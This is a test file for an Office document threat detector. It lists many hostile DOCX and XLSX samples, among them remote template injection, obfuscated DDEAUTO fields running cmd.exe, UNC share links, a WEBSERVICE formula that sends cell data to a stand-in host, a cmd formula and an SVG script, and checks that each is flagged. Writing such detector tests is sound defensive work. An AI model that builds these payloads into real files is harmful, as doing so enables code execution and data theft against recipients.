import {
  DOCX,
  docx,
  field,
  formula,
  mark,
  NAMESPACES,
  OFFICE,
  ole,
  program,
  related,
  said,
  to,
  XLSX,
  xlsx,
} from '../testing/officeFiles.ts';
import { findThreat } from './findThreat.ts';

const HOSTILE: [string, Buffer, string?][] = [
  ['a template from elsewhere', to('attachedTemplate', 'https://elsewhere.example/a.dotm')],
  ['a template with letters as numbers', to('&#97;ttachedTempl&#x61;te', '&#104;ttps://elsewhere.example/a.dotm')],
  [
    'a template whose mode is written in numbers',
    to('attachedTemplate', 'https://elsewhere.example/a.dotm', 'TargetMode="&#69;xternal"'),
  ],
  ['a template in quotes of the other kind', to('attachedTemplate', 'a.dotm', "TargetMode = 'External'")],
  ['a template that claims to be a part', to('attachedTemplate', 'https://elsewhere.example/a.dotm', '')],
  [
    'a template behind a prefix of its own',
    docx('', {
      'word/_rels/settings.xml.rels': `<x:Relationships xmlns:x="urn:x"><x:Relationship Type="${OFFICE}/attachedTemplate" Target="https://elsewhere.example/" TargetMode="External"/></x:Relationships>`,
    }),
  ],
  [
    'a template told of in UTF-16',
    docx('', {
      'word/_rels/settings.xml.rels': Buffer.from(
        `\ufeff<Relationships><Relationship Type="${OFFICE}/attachedTemplate" Target="https://elsewhere.example/" TargetMode="External"/></Relationships>`,
        'utf16le',
      ),
    }),
  ],
  ['a part of the document in a file', to('subDocument', 'file:///C:/a.docx')],
  ['a part of the document on a share', to('subDocument', '\\\\elsewhere.example\\share\\a.docx')],
  ['a picture on a share', to('image', 'file://elsewhere.example/share/a.png')],
  ['a picture on a share as a path', to('image', '\\\\elsewhere.example\\share\\a.png', '')],
  ['a picture on a page', to('image', 'https://elsewhere.example/a.png')],
  ['a foreign chunk', to('aFChunk', 'chunk.htm', '')],
  ['an element with a foreign chunk', docx('<w:altChunk r:id="rId1"/>')],
  ['a frame', to('frame', 'https://elsewhere.example/')],
  ['an object from elsewhere', to('oleObject', 'https://elsewhere.example/a.rtf')],
  ['an object of ActiveX', to('control', 'activeX/activeX1.xml', '')],
  ['an add-in', to('webextensiontaskpanes', 'taskpanes.xml', '')],
  ['a link to a share', to('hyperlink', '\\\\elsewhere.example\\share')],
  ['a link to a share with slashes', to('hyperlink', '//elsewhere.example/share')],
  ['a link to a file', to('hyperlink', 'file:///C:/Windows/System32/cmd.exe')],
  ['a link that is a script', to('hyperlink', ' java&#10;script:alert(1)')],
  ['a link to a search of Windows', to('hyperlink', 'search-ms:query=x&amp;crumb=location:\\\\elsewhere')],
  [
    'a link to a diagnostic of Windows',
    to('oleObject', 'mhtml:https://elsewhere.example/!x-usc:https://elsewhere.example/'),
  ],
  ['a command', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
  ['a command split over runs', field(' D', 'DE', 'AUTO c:\\\\cmd.exe')],
  ['a command with letters as numbers', field(' &#68;&#x44;E cmd')],
  ['a command in quotes', field(' "DDEAUTO" cmd')],
  ['a command in a data section', field(' <![CDATA[DDE]]>AUTO cmd')],
  ['a command in a simple field', docx('<w:fldSimple w:instr=" ddeauto cmd "/>')],
  ['a command whose field never ends', docx(`${mark('begin')}${said('DDEAUTO cmd')}`)],
  [
    'a command made by another field',
    docx(`${mark('begin')}${mark('begin')}${said('QUOTE 68 68 69')}${mark('end')}${said(' cmd')}${mark('end')}`),
  ],
  [
    'a command half made by another field',
    docx(`${mark('begin')}${said('DD')}${mark('begin')}${said('QUOTE 69')}${mark('end')}${said(' cmd')}${mark('end')}`),
  ],
  ['a command as text within the marks', docx(`${mark('begin')}<w:r><w:t>DDEAUTO cmd</w:t></w:r>${mark('end')}`)],
  [
    'a command behind a mark that only some programs see',
    docx(
      `${mark('begin')}<mc:AlternateContent><mc:Choice Requires="x">${mark('separate')}</mc:Choice></mc:AlternateContent>${said('DDEAUTO cmd')}${mark('end')}`,
    ),
  ],
  [
    'a command behind words that only some programs see',
    docx(`${mark('begin')}<x:other>${said('PAGE')}</x:other>${said(' DDEAUTO cmd')}${mark('end')}`),
  ],
  [
    'a command behind words of another kind',
    docx(`${mark('begin')}<w:r><x:instrText>PAGE </x:instrText></w:r>${said('DDEAUTO cmd')}${mark('end')}`),
  ],
  [
    'a command behind words under a name given anew',
    docx(`${mark('begin')}<w:ins xmlns:w="urn:x">${said('PAGE ')}</w:ins>${said('DDEAUTO cmd')}${mark('end')}`),
  ],
  [
    'a command behind words that are deleted',
    docx(
      `${mark('begin')}<w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del>${said('DDEAUTO cmd')}${mark('end')}`,
    ),
  ],
  ['a command beside another of that name', docx('<w:fldSimple w:instr="DDE x" x:instr="PAGE"/>')],
  [
    'a template beside another target',
    docx(
      '',
      related(`Type="${OFFICE}/attachedTemplate" x:Type="${OFFICE}/styles" Target="https://elsewhere.example/"`),
    ),
  ],
  [
    'a picture from elsewhere beside its own',
    docx('<v:imagedata src="https://elsewhere.example/a.png" o:src="media/a.png"/>'),
  ],
  [
    'a command in a header',
    docx('', { 'word/header1.xml': `<w:hdr ${NAMESPACES}><w:fldSimple w:instr="DDE x"/></w:hdr>` }),
  ],
  [
    'a command in a part under another name',
    docx('', { 'word/other.bin': `<w:hdr ${NAMESPACES}><w:fldSimple w:instr="DDE x"/></w:hdr>` }),
  ],
  ['a text of a share', field(' INCLUDETEXT "\\\\\\\\elsewhere\\\\a.docx"')],
  ['a picture of a share in a field', field(' INCLUDEPICTURE "\\\\\\\\elsewhere\\\\a.png"')],
  ['a field that links to a share', field(' HYPERLINK "\\\\\\\\elsewhere\\\\a"')],
  [
    'a link to another program',
    xlsx({
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
    XLSX,
  ],
  [
    'a link to another program behind a prefix',
    xlsx({
      'xl/externalLinks/externalLink1.xml': '<x:externalLink xmlns:x="urn:x"><x:oleLink r:id="rId1"/></x:externalLink>',
    }),
    XLSX,
  ],
  [
    'a workbook on a share',
    xlsx({
      'xl/externalLinks/_rels/externalLink1.xml.rels': `<Relationships><Relationship Type="${OFFICE}/externalLinkPath" Target="file:///\\\\elsewhere\\a.xlsx" TargetMode="External"/></Relationships>`,
    }),
    XLSX,
  ],
  ['a formula that asks a program', formula("cmd|'/c calc'!A0"), XLSX],
  ['a formula that asks a server', formula('_xlfn.WEBSERVICE(&quot;https://elsewhere.example/&quot;&amp;A1)'), XLSX],
  [
    'a name that starts a program',
    xlsx({
      'xl/workbook.xml':
        '<workbook><definedNames><definedName name="x">EXEC("calc")</definedName></definedNames></workbook>',
    }),
    XLSX,
  ],
  [
    'a query of a page',
    xlsx({
      'xl/connections.xml':
        '<connections><connection><webPr url="https://elsewhere.example/"/></connection></connections>',
    }),
    XLSX,
  ],
  ['a package with a program', docx('', { 'word/embeddings/oleObject1.bin': ole('Root Entry', '\x01Ole10Native') })],
  ['the old editor of formulas', docx('', { 'word/embeddings/oleObject1.bin': ole('Root Entry', 'Equation Native') })],
  ['a program under another name', docx('', { 'word/media/image1.png': program })],
  ['macros in a sheet within', docx('', { 'word/embeddings/Sheet.xlsx': xlsx({ 'xl/vbaProject.bin': 'x' }) })],
  ['old macros within', docx('', { 'word/embeddings/old.bin': ole('Root Entry', 'Workbook', '_VBA_PROJECT_CUR') })],
  ['a shape with a picture from elsewhere', docx('<v:imagedata src="https://elsewhere.example/a.png"/>')],
  ['a shape that starts a program', docx('<a:hlinkClick r:id="" action="ppaction://program"/>')],
  ['a linked object', docx('<o:OLEObject Type="Link" ProgID="Excel.Sheet.12"/>')],
  [
    'a style sheet from elsewhere',
    docx('', { 'customXml/item1.xml': '<?xml-stylesheet href="https://elsewhere.example/a.xsl"?><a/>' }),
  ],
  [
    'a drawing with a script',
    docx('', { 'word/media/image1.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' }),
  ],
];

test.each(HOSTILE)('%s is found', async (_, file, type = DOCX) => {
  expect(await findThreat(file, type as typeof DOCX)).toBe('active_content');
});
